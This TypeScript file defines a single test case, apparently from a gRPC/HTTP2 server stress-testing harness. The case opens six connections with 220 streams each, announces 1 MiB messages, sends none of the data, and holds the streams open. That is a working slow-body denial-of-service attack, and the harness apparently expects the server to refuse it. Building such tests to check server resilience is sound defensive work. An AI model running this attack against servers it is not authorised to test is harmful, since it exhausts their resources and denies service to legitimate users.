import type { Attack } from '../attack.ts';
import { grpcFields, Http2Attacker } from '../raw/http2.ts';
import { announcement, inferMethod } from '../raw/infer-message.ts';

export const announcedMessages: Attack = {
  name: 'announced-messages',
  row: 'Six gRPC connections with 220 streams each announce a message of 1 MiB and send no more of it.',
  expected: 'refused',
  isSharedInShort: true,
  establishedMin: 6,
  secondsMin: 6,
  run: (target, pressure) =>
    target.again(6 * pressure, async () => {
      const connection = await Http2Attacker.open(target);
      if (connection === undefined) return target.sleep(100);
      const streams = Array.from({ length: 220 }, () => connection.open(grpcFields(target, inferMethod)));
      for (const id of streams) await connection.body(id, announcement(1 << 20), false);
      target.nowEstablished();
      while (!target.isOver && !connection.isClosed && streams.some((id) => !connection.isOver(id))) {
        await target.sleep(50);
      }
      target.hangUp(connection.socket);
    }),
};
